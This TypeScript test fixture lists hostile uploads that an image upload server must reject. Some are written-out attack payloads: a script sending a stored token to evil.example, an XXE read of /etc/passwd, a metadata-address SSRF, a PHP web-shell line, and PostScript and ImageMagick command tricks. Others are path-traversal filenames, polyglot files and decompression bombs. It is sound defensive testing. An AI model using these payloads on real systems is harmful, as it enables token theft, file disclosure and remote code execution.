// Files and requests that must be refused: each with its title, the request, and the status it deserves.
import { randomBytes } from 'node:crypto';
import { deflateSync, gzipSync } from 'node:zlib';
import type { Request } from '#tests/support/server/app.ts';
import { dot, multipart, upload } from '#tests/support/server/multipart.ts';
import { photo, png } from '#tests/support/photos.ts';

export type Hostile = [title: string, request: Request, status: number];

const MIB = 1024 * 1024;
const latin = (text: string): Buffer => Buffer.from(text, 'latin1');
const script = '<script>fetch("//evil.example?"+localStorage.token)</script>';
const svg = `<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9">${script}<rect width="9" height="9"/></svg>`;
const html = `<!doctype html><html><body onload="alert(1)">${script}</body></html>`;
const zip = latin(`PK\x03\x04${'\0'.repeat(40)}PK\x05\x06${'\0'.repeat(18)}`);
const pdf = `%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\ntrailer<</Root 1 0 R>>`;
const box = (brand: string): Buffer => latin(`\0\0\0\x18ftyp${brand}\0\0\0\0${brand}mif1${'\0'.repeat(64)}`);

const otherThings: Record<string, Buffer | string> = {
  'an SVG with a script': svg,
  'an SVG behind an XML declaration': `<?xml version="1.0"?>\n${svg}`,
  'an SVG behind blanks and a comment': `\n\n  <!-- PNG -->${svg}`,
  'an SVG that reads a file': `<!DOCTYPE s [<!ENTITY x SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg"><text>&x;</text></svg>`,
  'an SVG that loads a picture': `<svg xmlns="http://www.w3.org/2000/svg"><image href="http://169.254.169.254/"/></svg>`,
  'a packed SVG': gzipSync(svg),
  'an SVG in UTF-16': Buffer.from(`\ufeff${svg}`, 'utf16le'),
  'a GIF that is a script': `GIF89a/*${'\0'.repeat(20)}*/=1;alert(1)`,
  'a BMP': latin(
    `BM\x46\0\0\0\0\0\0\0\x36\0\0\0\x28\0\0\0\x01\0\0\0\x01\0\0\0\x01\0\x18\0${'\0'.repeat(40)}`,
  ),
  'an icon': latin(`\0\0\x01\0\x01\0\x01\x01\0\0\x01\0\x18\0${'\0'.repeat(60)}`),
  'a TIFF of the other byte order': latin(`MM\0*\0\0\0\x08${'\0'.repeat(60)}`),
  'a Photoshop file': latin(`8BPS\0\x01${'\0'.repeat(60)}`),
  'a JPEG 2000': latin(`\0\0\0\x0cjP  \r\n\x87\n${'\0'.repeat(60)}`),
  'a JPEG XL': latin(`\xff\x0a${'\0'.repeat(60)}`),
  'a boxed JPEG XL': latin(`\0\0\0\x0cJXL \r\n\x87\n${'\0'.repeat(60)}`),
  'a HEIC': box('heic'),
  'a HEIF of no known codec': box('mif1'),
  'a video': box('isom'),
  'a PPM': 'P6\n1 1\n255\nabc',
  'a Radiance picture': '#?RADIANCE\nFORMAT=32-bit_rle_rgbe\n\n-Y 1 +X 1\nabcd',
  'a FITS picture': `SIMPLE  =                    T${' '.repeat(2851)}`,
  'a Magick script':
    "push graphic-context\nviewbox 0 0 9 9\nimage over 0,0 0,0 'https://evil.example/x'\npop graphic-context",
  'a PDF': pdf,
  'a PostScript file': '%!PS-Adobe-3.0\n(%pipe%id) (w) file',
  'an HTML page': html,
  'an HTML page behind a comment': `<!-- \x89PNG -->${html}`,
  'an XML bomb': '<?xml version="1.0"?><!DOCTYPE z [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;&a;">]><z>&b;</z>',
  'a zip': zip,
  'a Windows program': latin(`MZ\x90\0${'\0'.repeat(80)}PE\0\0`),
  'a Linux program': latin(`\x7fELF\x02\x01\x01${'\0'.repeat(80)}`),
  'a WebAssembly module': latin('\0asm\x01\0\0\0'),
  'a shell script': '#!/bin/sh\nid\n',
  'a PHP script': '<?php system($_GET["c"]); ?>',
  'a JavaScript file': 'alert(document.cookie)',
  'a sound in the frame of a WebP': latin(`RIFF\x24\0\0\0WAVEfmt ${'\0'.repeat(30)}`),
  JSON: '{"photo": "boat.png"}',
  'a data URL': `data:image/png;base64,${dot.toString('base64')}`,
  'NUL bytes': Buffer.alloc(5000),
  noise: Buffer.concat([Buffer.from([1, 2, 3]), randomBytes(5000)]),
  'one byte': 'x',
  'a PNG behind a byte order mark': Buffer.concat([Buffer.from('\ufeff'), dot]),
  'a PNG behind a line break': Buffer.concat([latin('\n'), dot]),
};

const badRequests = (): Hostile[] => {
  const { body, headers } = upload(dot);
  const file = { filename: 'boat.png', type: 'image/png', content: dot };
  const whole = (content: Buffer): Request => ({ body: content, headers });
  const as = (type: string): Request => ({ body: dot, headers: { 'content-type': type } });
  return [
    ['an empty file', upload(''), 422],
    ['an empty file without a name', upload('', { filename: '' }), 422],
    ['no part', multipart(), 422],
    ['a text instead of a file', multipart({ content: 'boat.png' }), 422],
    ['a file in another field', multipart({ ...file, field: 'file' }), 422],
    ['a file in the field Photo', multipart({ ...file, field: 'Photo' }), 422],
    ['a file in the field photo[]', multipart({ ...file, field: 'photo[]' }), 422],
    ['a file in the field __proto__', multipart({ ...file, field: '__proto__' }), 400],
    ['a text in the field constructor', multipart(file, { field: 'constructor', content: '1' }), 400],
    ['two files', multipart(file, file), 422],
    ['a second file in another field', multipart(file, { ...file, field: 'other' }), 422],
    ['a text that no field takes', multipart(file, { field: 'caption', content: 'Boat' }), 422],
    ['a text before the file', multipart({ field: 'slot', content: 'cover' }, file), 422],
    [
      'a thousand parts',
      multipart(...Array.from({ length: 1000 }, () => ({ field: 'photo', content: 'x' }))),
      400,
    ],
    ['no content type', { body: dot, headers: {} }, 415],
    ['the bare picture', as('image/png'), 415],
    ['JSON in place of a form', { body: { photo: 'x' } }, 415],
    ['a form without files', as('application/x-www-form-urlencoded'), 415],
    ['no boundary', as('multipart/form-data'), 400],
    ['another kind of multipart', { body, headers: { 'content-type': 'multipart/mixed; boundary=x' } }, 415],
    ['a wrong boundary', { body, headers: { 'content-type': 'multipart/form-data; boundary=x' } }, 400],
    ['an empty body', { body: Buffer.alloc(0), headers }, 422],
    ['a body that ends in the picture', whole(body.subarray(0, body.length - 60)), 400],
    ['a body that ends in a header', whole(body.subarray(0, 60)), 400],
    ['a body without its end', whole(body.subarray(0, body.length - 4)), 400],
    ['headers without end', whole(Buffer.concat([body.subarray(0, 60), Buffer.alloc(200_000, 'x')])), 400],
    ...['text/html', 'image/svg+xml', 'application/pdf', 'application/javascript'].map((type): Hostile => [
      `a picture that is declared ${type}`,
      upload(dot, { type }),
      422,
    ]),
    ...[
      '../../evil.png',
      '..\\\\..\\\\evil.png',
      '/etc/passwd',
      'boat.png\0.html',
      '..',
      'a/../../b.png',
      'boat\x1b[2J.png',
    ].map((filename): Hostile => [`the name ${JSON.stringify(filename)}`, upload(dot, { filename }), 422]),
  ];
};

const large = Buffer.concat([latin('\xff\xd8\xff\xe0'), randomBytes(11 * MIB)]);

/** At least sixty of them. */
export async function hostileUploads(): Promise<Hostile[]> {
  const [jpeg, webp, avif, gif, tiff] = await Promise.all([
    photo().jpeg().toBuffer(),
    photo().webp().toBuffer(),
    photo().avif({ effort: 0 }).toBuffer(),
    photo().gif().toBuffer(),
    photo().tiff().toBuffer(),
  ]);
  const real = { jpeg, png: await photo().png().toBuffer(), webp, avif };
  const noise = Buffer.from(randomBytes(201 * 200).map((byte, index) => (index % 201 ? byte : 0)));
  const whole = png(200, 200, noise);
  const wide = Buffer.from(jpeg);
  const frame = wide.indexOf(latin('\xff\xc0\0'));
  wide.writeUInt16BE(65_000, frame + 5);
  wide.writeUInt16BE(65_000, frame + 7);
  const badSum = Buffer.from(real.png);
  badSum.writeUInt32BE(0, 29);
  const comment = latin(`\xff\xfe\0${String.fromCharCode(script.length + 2)}${script}`);
  const broken: Record<string, Buffer> = {
    ...Object.fromEntries(
      Object.entries(real).flatMap(([kind, bytes]) =>
        [0.9, 0.5].map((part) => [
          `a ${kind} of which ${part * 100} % arrived`,
          bytes.subarray(0, Math.floor(bytes.length * part)),
        ]),
      ),
    ),
    'a PNG without its last rows': whole.subarray(0, whole.length - 5000),
    'the first bytes of a JPEG': jpeg.subarray(0, 20),
    'the first bytes of a PNG': dot.subarray(0, 8),
    'a PNG with a wrong checksum': badSum,
    'a PNG without pixels': png(0, 0),
    'a PNG with too few rows': png(100, 100, Buffer.alloc(500)),
    'a WebP of nothing': latin(`RIFF\x0c\0\0\0WEBPVP8 \0\0\0\0`),
    'an AVIF of nothing': box('avif'),
    'a JPEG of noise': Buffer.concat([latin('\xff\xd8\xff\xe0'), randomBytes(5000)]),
  };
  const polyglots: Record<string, Buffer> = {
    'a GIF': gif,
    'a TIFF': tiff,
    'a JPEG that is also a page': Buffer.concat([jpeg, latin(html)]),
    'a JPEG with a script in a comment': Buffer.concat([jpeg.subarray(0, 2), comment, jpeg.subarray(2)]),
    'a JPEG that is also a zip': Buffer.concat([jpeg, zip]),
    'a JPEG that is also PHP': Buffer.concat([jpeg, latin('<?php phpinfo(); ?>')]),
    'a PNG that is also a PDF': Buffer.concat([dot, latin(pdf)]),
    'a PNG that is also an SVG': Buffer.concat([dot, latin(svg)]),
    'a PNG with a script in a text': png(9, 9, undefined, [['tEXt', latin(`Comment\0${script}`)]]),
    'a WebP that is also a page': Buffer.concat([webp, latin(html)]),
    'a PDF that is also a JPEG': Buffer.concat([latin(pdf), jpeg]),
    'a GIF that is also a JPEG': Buffer.concat([latin('GIF89a'), jpeg]),
    'a page that is also a PNG': Buffer.concat([latin(html), dot]),
  };
  const bombs: Record<string, Buffer> = {
    'a small file of 41 million pixels': png(8200, 5000),
    'a picture of 100,000 by 1': png(100_000, 1),
    'a picture of 1 by 100,000': png(1, 100_000),
    'a PNG that says 60,000 by 60,000': png(60_000, 60_000, Buffer.alloc(10)),
    'a PNG that says two thousand million': png(2_000_000_000, 1, Buffer.alloc(10)),
    'a JPEG that says 65,000 by 65,000': wide,
  };
  const files = { ...otherThings, ...broken, ...polyglots, ...bombs };
  return [
    ...Object.entries(files).map(([title, bytes]): Hostile => [title, upload(bytes), 422]),
    ['11 MiB', upload(large), 413],
    ['a megabyte that unpacks to a thousand', upload(deflateSync(Buffer.alloc(100 * MIB))), 422],
    ...badRequests(),
  ];
}
